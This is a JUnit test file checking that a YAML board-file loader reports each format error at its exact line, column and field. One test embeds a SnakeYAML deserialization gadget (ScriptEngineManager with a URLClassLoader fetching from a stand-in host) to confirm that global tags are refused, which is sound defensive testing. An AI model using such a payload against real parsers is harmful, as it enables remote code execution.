package dev.physmem.cli.board;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** Every way a board file can be wrong is reported at its file, line, column and field. */
class BoardFormatErrorTest {

    private static final String SPACES = """
            address-spaces:
              - {name: memory, root: system}
            """;

    /** Loads {@code yaml} and returns the error it must cause. */
    private static BoardFormatException error(String yaml) {
        var thrown = assertThatThrownBy(() -> BoardLoader.load(yaml, "board.yaml"))
                .isInstanceOf(BoardFormatException.class);
        return (BoardFormatException) thrown.actual();
    }

    private static void assertAt(BoardFormatException e, int line, int column, String field) {
        assertThat(e.source()).isEqualTo("board.yaml");
        assertThat(e.line()).as("line of: %s", e.getMessage()).isEqualTo(line);
        assertThat(e.column()).as("column of: %s", e.getMessage()).isEqualTo(column);
        assertThat(e.field()).as("field of: %s", e.getMessage()).isEqualTo(field);
        String prefix = "board.yaml:" + line + ":" + column + ": " + (field == null ? "" : "field '" + field + "': ");
        assertThat(e.getMessage()).startsWith(prefix);
    }

    // ---------------------------------------------------------------- values

    @Test
    void sizeThatIsNotANumberNamesTheExpectedSyntax() {
        var e = error("""
                regions:
                  - name: system
                    kind: container
                    size: big
                """ + SPACES);
        assertAt(e, 4, 11, "size");
        assertThat(e.getMessage()).isEqualTo("board.yaml:4:11: field 'size': expected a size like 0x1000 or 4K,"
                + " got 'big'");
    }

    @Test
    void sizeOfTwoToTheSixtyFourMinusOneIsRefused() {
        var e = error("""
                regions:
                  - {name: system, kind: container, size: 0xffff_ffff_ffff_ffff}
                """ + SPACES);
        assertAt(e, 2, 43, "size");
        assertThat(e.problem()).contains("2^64-1 bytes cannot exist");
    }

    @Test
    void decimalWithALeadingZeroIsAmbiguous() {
        var e = error("""
                regions:
                  - {name: system, kind: container, size: 0777}
                """ + SPACES);
        assertAt(e, 2, 43, "size");
        assertThat(e.problem()).contains("leading 0 is ambiguous");
    }

    @Test
    void hostBackedRegionOfTwoToTheSixtyFourIsRefused() {
        var e = error("""
                regions:
                  - {name: system, kind: ram, size: 2^64}
                """ + SPACES);
        assertAt(e, 2, 37, "size");
        assertThat(e.problem()).contains("smaller than 2^63 bytes");
    }

    @Test
    void addressPastTheEndOfTheSpaceIsRefused() {
        var e = error("""
                regions:
                  - name: system
                    kind: container
                    size: 2^64
                    subregions:
                      - {at: 2^64, name: r, kind: ram, size: 4K}
                """ + SPACES);
        assertAt(e, 6, 14, "at");
        assertThat(e.problem()).startsWith("expected an address like 0x1000 or 1G, got '2^64'");
    }

    @Test
    void yamlBooleansOtherThanTrueAndFalseAreRefused() {
        var e = error("""
                regions:
                  - {name: system, kind: container, size: 2^64, enabled: yes}
                """ + SPACES);
        assertAt(e, 2, 58, "enabled");
        assertThat(e.problem()).isEqualTo("expected true or false, got 'yes'");
    }

    @Test
    void listWhereAScalarBelongsIsAWrongType() {
        var e = error("""
                regions:
                  - name: system
                    kind: container
                    size: [4K]
                """ + SPACES);
        assertAt(e, 4, 11, "size");
        assertThat(e.problem()).isEqualTo("expected a size like 0x1000 or 4K, got a list");
    }

    @Test
    void mappingWhereAListBelongsIsAWrongType() {
        var e = error("""
                regions:
                  name: system
                """ + SPACES);
        assertAt(e, 2, 3, "regions");
        assertThat(e.problem()).startsWith("expected a list of regions");
    }

    @Test
    void scalarWhereARegionBelongsIsAWrongType() {
        var e = error("""
                regions:
                  - system
                """ + SPACES);
        assertAt(e, 2, 5, "regions");
        assertThat(e.problem()).startsWith("expected a region (a mapping of 'key: value' lines), got 'system'");
    }

    @Test
    void unknownKindSuggestsTheClosest() {
        var e = error("""
                regions:
                  - {name: system, kind: containr, size: 2^64}
                """ + SPACES);
        assertAt(e, 2, 26, "kind");
        assertThat(e.problem()).contains("got 'containr' (did you mean 'container'?)");
    }

    @Test
    void accessSizeMustBeAPowerOfTwoUpToEight() {
        var e = error("""
                regions:
                  - {name: system, kind: io, size: 4K, valid: {min: 3}}
                """ + SPACES);
        assertAt(e, 2, 53, "valid.min");
        assertThat(e.problem()).isEqualTo("expected one of 1, 2, 4, 8, got '3'");
    }

    @Test
    void accessMaxBelowMinIsRefused() {
        var e = error("""
                regions:
                  - name: system
                    kind: io
                    size: 4K
                    impl:
                      min: 4
                      max: 2
                """ + SPACES);
        assertAt(e, 7, 12, "impl.max");
        assertThat(e.problem()).isEqualTo("expected at least min (4), got 2");
    }

    @Test
    void ownerInAnUnknownFormIsRefused() {
        var e = error("""
                regions:
                  - {name: system, kind: container, size: 2^64, owner: uart0}
                """ + SPACES);
        assertAt(e, 2, 56, "owner");
        assertThat(e.problem()).contains("expected an owner like {dev-id: uart0}");
    }

    @Test
    void ownerMappingTakesExactlyOneField() {
        var e = error("""
                regions:
                  - {name: system, kind: container, size: 2^64, owner: {dev-id: a, dev-path: /b}}
                """ + SPACES);
        assertAt(e, 2, 56, "owner");
        assertThat(e.problem()).endsWith("got 2 fields");
    }

    @Test
    void onlyFormatOneIsKnown() {
        var e = error("format: 2\n" + """
                regions:
                  - {name: system, kind: container, size: 2^64}
                """ + SPACES);
        assertAt(e, 1, 9, "format");
    }

    // ---------------------------------------------------------------- fields

    @Test
    void unknownFieldIsAnErrorWithASuggestion() {
        var e = error("""
                regions:
                  - name: system
                    kind: ram
                    sise: 4K
                """ + SPACES);
        assertAt(e, 4, 5, "sise");
        assertThat(e.problem()).startsWith("unknown field of a ram region (did you mean 'size'?); expected one of:");
    }

    @Test
    void fieldOfAnotherKindIsUnknownForThisOne() {
        var e = error("""
                regions:
                  - {name: system, kind: container, size: 2^64, romd: true}
                """ + SPACES);
        assertAt(e, 2, 49, "romd");
        assertThat(e.problem()).startsWith("unknown field of a container region");
    }

    @Test
    void unknownTopLevelFieldIsAnError() {
        var e = error("adress-spaces: []\n" + """
                regions:
                  - {name: system, kind: container, size: 2^64}
                """ + SPACES);
        assertAt(e, 1, 1, "adress-spaces");
        assertThat(e.problem()).contains("did you mean 'address-spaces'?");
    }

    @Test
    void unknownNestedFieldCarriesItsParentInTheName() {
        var e = error("""
                regions:
                  - {name: system, kind: rom, size: 4K, contents: {hex: "00", ofset: 1}}
                """ + SPACES);
        assertAt(e, 2, 63, "contents.ofset");
    }

    @Test
    void fieldGivenTwiceIsAnError() {
        var e = error("""
                regions:
                  - name: system
                    kind: container
                    size: 2^64
                    size: 4K
                """ + SPACES);
        assertAt(e, 5, 5, "size");
        assertThat(e.problem()).isEqualTo("given twice (first at line 4)");
    }

    @Test
    void missingRequiredFieldIsReportedWhereTheMappingStarts() {
        var e = error("""
                regions:
                  - name: system
                    kind: ram
                """ + SPACES);
        assertAt(e, 2, 5, "size");
        assertThat(e.problem()).isEqualTo("missing; every region but an alias needs a size");
    }

    @Test
    void missingKindListsTheKinds() {
        var e = error("""
                regions:
                  - {name: system, size: 2^64}
                """ + SPACES);
        assertAt(e, 2, 5, "kind");
        assertThat(e.problem()).contains("container, ram, rom, rom-device, io, alias, ram-device");
    }

    @Test
    void emptyValueOfARequiredFieldSaysItGotNothing() {
        var e = error("""
                regions:
                  - name:
                    kind: container
                    size: 2^64
                """ + SPACES);
        assertAt(e, 2, 10, "name");
        assertThat(e.problem()).isEqualTo("expected a string, got nothing");
    }

    @Test
    void emptySizeOfAnAliasIsNotTakenAsLeftOut() {
        var e = error("""
                regions:
                  - {name: system, kind: container, size: 2^64}
                  - {name: a, kind: alias, target: system, size: }
                """ + SPACES);
        assertAt(e, 3, 49, "size");
        assertThat(e.problem()).isEqualTo("expected a size like 0x1000 or 4K, got nothing");
    }

    @Test
    void subregionEntryNeedsAnOffset() {
        var e = error("""
                regions:
                  - name: system
                    kind: container
                    size: 2^64
                    subregions:
                      - {name: r, kind: ram, size: 4K}
                """ + SPACES);
        assertAt(e, 6, 9, "at");
    }

    @Test
    void missingAddressSpacesIsAnError() {
        var e = error("""
                regions:
                  - {name: system, kind: container, size: 2^64}
                """);
        assertAt(e, 1, 1, "address-spaces");
        assertThat(e.problem()).startsWith("missing; a board needs at least one address space");
    }

    @Test
    void emptyRegionListIsAnError() {
        var e = error("regions: []\n" + SPACES);
        assertAt(e, 1, 10, "regions");
    }

    @Test
    void aliasMayNotHaveSubregions() {
        var e = error("""
                regions:
                  - {name: system, kind: container, size: 2^64}
                  - name: a
                    kind: alias
                    target: system
                    subregions: []
                """ + SPACES);
        assertAt(e, 6, 5, "subregions");
        assertThat(e.problem()).startsWith("an alias has no subregions of its own");
    }

    @Test
    void topLevelRegionHasNoOffset() {
        var e = error("""
                regions:
                  - {name: system, kind: container, size: 2^64, at: 0x1000}
                """ + SPACES);
        assertAt(e, 2, 49, "at");
        assertThat(e.problem()).startsWith("a top-level region is not mapped anywhere");
    }

    @Test
    void refEntryTakesNoRegionFields() {
        var e = error("""
                regions:
                  - name: system
                    kind: container
                    size: 2^64
                    subregions:
                      - {at: 0, ref: pci, name: other}
                  - {name: pci, kind: container, size: 2^64}
                """ + SPACES);
        assertAt(e, 6, 27, "name");
        assertThat(e.problem()).startsWith("unknown field of a subregion entry with 'ref'");
    }

    // ---------------------------------------------------------------- priorities

    @Test
    void priorityThatIsNotAnIntegerIsRefused() {
        var e = error("""
                regions:
                  - name: system
                    kind: container
                    size: 2^64
                    subregions:
                      - {at: 0, priority: high, name: r, kind: ram, size: 4K}
                """ + SPACES);
        assertAt(e, 6, 27, "priority");
        assertThat(e.problem()).isEqualTo("expected an integer priority from -2147483648 to 2147483647, got 'high'");
    }

    @Test
    void priorityOutsideThirtyTwoBitsIsRefused() {
        var e = error("""
                regions:
                  - name: system
                    kind: container
                    size: 2^64
                    subregions:
                      - {at: 0, priority: 2147483648, name: r, kind: ram, size: 4K}
                """ + SPACES);
        assertAt(e, 6, 27, "priority");
    }

    @Test
    void priorityOnATopLevelRegionIsRefused() {
        var e = error("""
                regions:
                  - {name: system, kind: container, size: 2^64, priority: 1}
                """ + SPACES);
        assertAt(e, 2, 49, "priority");
    }

    // ---------------------------------------------------------------- references

    @Test
    void aliasTargetNotFoundSuggestsTheClosestName() {
        var e = error("""
                regions:
                  - name: system
                    kind: container
                    size: 2^64
                    subregions:
                      - {at: 0, name: low, kind: alias, target: pc.rma, size: 4K}
                  - {name: pc.ram, kind: ram, size: 1M}
                """ + SPACES);
        assertAt(e, 6, 49, "target");
        assertThat(e.problem()).isEqualTo("no region has the id, name or path 'pc.rma' (did you mean 'pc.ram'?)");
    }

    @Test
    void spaceRootNotFoundIsReportedAtTheRoot() {
        var e = error("""
                regions:
                  - {name: system, kind: container, size: 2^64}
                address-spaces:
                  - {name: memory, root: sytem}
                """);
        assertAt(e, 4, 26, "root");
    }

    @Test
    void referenceToADuplicatedNameIsAmbiguous() {
        var e = error("""
                regions:
                  - name: system
                    kind: container
                    size: 2^64
                    subregions:
                      - {at: 0, name: ram, kind: ram, size: 4K}
                      - {at: 4K, name: ram, kind: ram, size: 4K}
                      - {at: 8K, name: win, kind: alias, target: ram}
                """ + SPACES);
        assertAt(e, 8, 50, "target");
        assertThat(e.problem()).isEqualTo("'ram' is ambiguous: 2 regions are named 'ram' (lines 6, 7); give the one"
                + " you mean an 'id' and refer to that");
    }

    @Test
    void duplicateIdIsAnError() {
        var e = error("""
                regions:
                  - {name: system, id: root, kind: container, size: 2^64}
                  - {name: other, id: root, kind: container, size: 2^64}
                """ + SPACES);
        assertAt(e, 3, 23, "id");
        assertThat(e.problem()).isEqualTo("id 'root' is already used by region 'system' (line 2); ids must be unique");
    }

    @Test
    void aliasCycleIsReportedWithItsChain() {
        var e = error("""
                regions:
                  - {name: system, kind: container, size: 2^64}
                  - {name: a, kind: alias, target: b, size: 4K}
                  - {name: b, kind: alias, target: c, size: 4K}
                  - {name: c, kind: alias, target: a, size: 4K}
                """ + SPACES);
        assertAt(e, 5, 36, "target");
        assertThat(e.problem()).isEqualTo("alias cycle: 'a' -> 'b' -> 'c' -> 'a'");
    }

    @Test
    void aliasOfItselfIsACycle() {
        var e = error("""
                regions:
                  - {name: system, kind: container, size: 2^64}
                  - {name: me, kind: alias, target: me, size: 4K}
                """ + SPACES);
        assertAt(e, 3, 37, "target");
        assertThat(e.problem()).isEqualTo("alias cycle: 'me' -> 'me'");
    }

    @Test
    void aliasOfAnEnclosingContainerIsAMappingCycle() {
        var e = error("""
                regions:
                  - name: system
                    kind: container
                    size: 2^64
                    subregions:
                      - at: 0x1000
                        name: mirror
                        kind: alias
                        target: system
                        size: 4K
                """ + SPACES);
        assertAt(e, 9, 17, "target");
        assertThat(e.problem()).isEqualTo("mapping cycle: 'system' contains 'mirror', which aliases 'system';"
                + " a region cannot contain itself");
    }

    @Test
    void containerMappedIntoItselfIsAMappingCycle() {
        var e = error("""
                regions:
                  - name: system
                    kind: container
                    size: 2^64
                    subregions:
                      - {at: 0, ref: system}
                """ + SPACES);
        assertAt(e, 6, 22, "ref");
        assertThat(e.problem()).startsWith("mapping cycle: 'system' contains 'system'");
    }

    @Test
    void regionMappedTwiceByRefIsAnError() {
        var e = error("""
                regions:
                  - name: system
                    kind: container
                    size: 2^64
                    subregions:
                      - {at: 0, ref: pci}
                      - {at: 0x1000, ref: pci}
                  - {name: pci, kind: container, size: 2^64}
                """ + SPACES);
        assertAt(e, 7, 27, "ref");
        assertThat(e.problem()).startsWith("region 'pci' (line 8) is already mapped in region 'system' (line 2);"
                + " a region can be mapped only once");
    }

    @Test
    void refToARegionDefinedInPlaceElsewhereIsMappedTwice() {
        var e = error("""
                regions:
                  - name: system
                    kind: container
                    size: 2^64
                    subregions:
                      - {at: 0, ref: ram}
                  - name: bank
                    kind: container
                    size: 1M
                    subregions:
                      - {at: 0, name: ram, kind: ram, size: 4K}
                """ + SPACES);
        assertAt(e, 6, 22, "ref");
        assertThat(e.problem()).startsWith("region 'ram' (line 11) is already mapped in region 'bank' (line 7)");
    }

    @Test
    void aliasOffsetPastTheEndOfItsTargetNeedsASize() {
        var e = error("""
                regions:
                  - name: system
                    kind: container
                    size: 2^64
                    subregions:
                      - {at: 0, name: w, kind: alias, target: ram, offset: 8K}
                  - {name: ram, kind: ram, size: 4K}
                """ + SPACES);
        assertAt(e, 6, 60, "offset");
        assertThat(e.problem()).startsWith("offset 0x2000 is beyond the end of region 'ram' (line 7)");
    }

    // ---------------------------------------------------------------- contents

    @Test
    void contentsLargerThanTheRegionAreRefused() {
        var e = error("""
                regions:
                  - name: system
                    kind: rom
                    size: 4
                    contents: {hex: "01 02 03 04 05"}
                """ + SPACES);
        assertAt(e, 5, 21, "contents.hex");
        assertThat(e.problem()).startsWith("5 bytes do not fit");
    }

    @Test
    void contentsOffsetPastTheEndOfTheRegionIsRefused() {
        var e = error("""
                regions:
                  - {name: system, kind: ram, size: 4K, contents: {hex: "00", offset: 8K}}
                """ + SPACES);
        assertAt(e, 2, 57, "contents.hex");
        assertThat(e.problem()).startsWith("the contents offset 0x2000 is beyond the end of region 'system'");
    }

    @Test
    void hexContentsMustBeWholeBytes() {
        var e = error("""
                regions:
                  - {name: system, kind: rom, size: 4K, contents: {hex: "abc"}}
                """ + SPACES);
        assertAt(e, 2, 57, "contents.hex");
    }

    @Test
    void contentsNeedExactlyOneSource() {
        var e = error("""
                regions:
                  - {name: system, kind: rom, size: 4K, contents: {offset: 0}}
                """ + SPACES);
        assertAt(e, 2, 51, "contents");
        assertThat(e.problem()).isEqualTo("expected exactly one of 'file' or 'hex'");
    }

    @Test
    void missingContentsFileIsReportedAtTheFileField(@TempDir Path dir) throws Exception {
        Path board = dir.resolve("board.yaml");
        Files.writeString(board, """
                regions:
                  - name: system
                    kind: rom
                    size: 4K
                    contents: {file: missing.bin}
                """ + SPACES);
        var thrown = assertThatThrownBy(() -> BoardLoader.load(board)).isInstanceOf(BoardFormatException.class);
        BoardFormatException e = (BoardFormatException) thrown.actual();
        assertThat(e.getMessage()).isEqualTo(board + ":5:22: field 'contents.file': cannot read '"
                + dir.resolve("missing.bin") + "': no such file");
    }

    // ---------------------------------------------------------------- YAML

    @Test
    void invalidYamlIsReportedWhereTheParserStopped() {
        var e = error("""
                regions:
                  - {name: system, kind: container, size: 2^64
                address-spaces: []
                """);
        assertThat(e.getMessage()).startsWith("board.yaml:3:");
        assertThat(e.field()).isNull();
        assertThat(e.problem()).startsWith("not valid YAML: ");
    }

    @Test
    void emptyFileIsAnError() {
        var e = error("# nothing here\n");
        assertAt(e, 1, 1, null);
        assertThat(e.problem()).startsWith("the file is empty");
    }

    @Test
    void severalDocumentsAreAnError() {
        var e = error("regions: []\n---\nregions: []\n");
        assertThat(e.problem()).startsWith("not valid YAML: ");
        assertThat(e.line()).isEqualTo(2);
    }

    @Test
    void yamlTagsNamingClassesAreRefused() {
        var e = error("""
                regions:
                  - !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://x"]]]]
                """ + SPACES);
        assertAt(e, 2, 5, null);
        assertThat(e.problem()).startsWith("not valid YAML: Global tag is not allowed");
    }

    // ---------------------------------------------------------------- host

    @Test
    void memoryTheHostCannotProvideIsReportedAtTheSize() {
        var e = error("""
                regions:
                  - {name: system, kind: ram, size: 4E}
                """ + SPACES);
        assertAt(e, 2, 37, "size");
        assertThat(e.problem()).startsWith("the host cannot provide 0x4000000000000000 bytes for region 'system'");
    }
}
